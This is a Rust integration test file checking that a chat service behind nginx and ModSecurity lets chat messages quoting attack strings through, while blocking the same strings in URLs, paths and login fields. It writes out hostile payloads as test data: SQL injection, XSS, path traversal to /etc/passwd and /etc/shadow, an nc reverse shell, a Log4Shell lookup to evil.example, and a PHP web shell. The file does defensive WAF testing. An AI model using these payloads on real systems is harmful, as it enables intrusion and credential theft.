//! nginx with ModSecurity and the OWASP rules: attacks are blocked, and people may talk about them.

use serde_json::json;

use crate::nginx::behind_nginx;
use crate::talk::{Session, all_is_as_without, room, user};

/// What people who secure things for a living write to one another.
const TALK: [&str; 9] = [
    "try ' OR '1'='1' -- and then '; DROP TABLE users; --",
    "1 UNION SELECT username, password FROM account",
    "<script>alert(document.cookie)</script> <img src=x onerror=alert(1)>",
    "../../../../etc/passwd and ..\\..\\windows\\win.ini",
    "$(cat /etc/shadow); `id`; | nc -e /bin/sh 10.0.0.1 4444",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "() { :; }; /bin/bash -c 'echo vulnerable'",
    "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
];

#[tokio::test]
async fn chat_goes_on_behind_modsecurity() {
    let behind = behind_nginx(true).await;
    all_is_as_without(&behind.door, &behind.node).await;
    let door = &behind.door;
    let token = user(door, "grace").await;
    let room = room(door, &token).await;
    let path = format!("/api/rooms/{room}/messages");
    let mut last = 0;
    for body in TALK {
        let sent = door.ask("POST", &path, &token, Some(json!({"body": body}))).await.expect(201);
        last = sent["seq"].as_u64().expect("a seq");
    }
    let said = format!("{path}/{last}");
    door.ask("PATCH", &said, &token, Some(json!({"body": TALK[2]}))).await.expect(200);
    let reaction = format!("{said}/reactions/%F0%9F%91%8D");
    assert!(door.ask("PUT", &reaction, &token, None).await.status < 300);
    assert!(door.ask("DELETE", &reaction, &token, None).await.status < 300);
    assert!(door.ask("DELETE", &said, &token, None).await.status < 300);
    let mut session = Session::begin(door, &token).await;
    for body in TALK {
        session.send(&room, body).await;
    }
    let named = json!({"name": "select * from pubs where 1=1 --", "kind": "public"});
    door.ask("POST", "/api/rooms", &token, Some(named)).await.expect(201);
    let difficult = json!({"username": "hopper", "password": "A1a' OR 1=1; --<script>"});
    door.ask("POST", "/api/auth/register", "", Some(difficult.clone())).await.expect(201);
    door.ask("POST", "/api/auth/login", "", Some(difficult)).await.expect(200);
    door.ask("GET", "/api/users?prefix=gra", &token, None).await.expect(200);
    door.ask("GET", &format!("{path}?limit=50&view=log"), &token, None).await.expect(200);
}

#[tokio::test]
async fn attacks_are_blocked_before_the_node_sees_them() {
    let behind = behind_nginx(true).await;
    let door = &behind.door;
    let token = user(door, "grace").await;
    for path in [
        "/api/users?prefix=1'%20OR%20'1'='1'--",
        "/api/users?prefix=1%20UNION%20SELECT%20password%20FROM%20account",
        "/api/users?prefix=%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/rooms?after=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/api/users?prefix=../../../../etc/passwd",
        "/assets/..%2f..%2f..%2fetc%2fpasswd",
        "/api/rooms/%3Cscript%3Ealert(1)%3C%2Fscript%3E/messages",
        "/api/users?prefix=$(cat%20/etc/shadow)",
        "/api/users?prefix=a%0d%0aSet-Cookie:%20a=b",
        "/api/users?prefix=$%7Bjndi:ldap://evil.example/a%7D",
    ] {
        let reply = door.ask("GET", path, &token, None).await;
        // What leads out of the root is nothing that nginx itself would pass on.
        let blocked = if path.starts_with("/assets/") { 400 } else { 403 };
        assert_eq!(reply.status, blocked, "{path}");
        assert!(!reply.headers.contains_key("x-request-id"), "the node has not answered");
    }
    // Where nobody writes prose, the same text is no talk.
    let account = json!({"username": "' OR 1=1; DROP TABLE users; --", "password": "x"});
    door.ask("POST", "/api/auth/login", "", Some(account)).await.expect(403);
    let scanner = [("user-agent", "sqlmap/1.7")];
    let reply = door.try_ask("GET", "/", "", &scanner, None).await.expect("answered");
    assert_eq!(reply.status, 403);
    let log = behind.proxy.log();
    assert!(log.contains("ModSecurity: Access denied"), "{log}");
    assert!(!behind.node.log().contains("onerror"), "{}", behind.node.log());
}
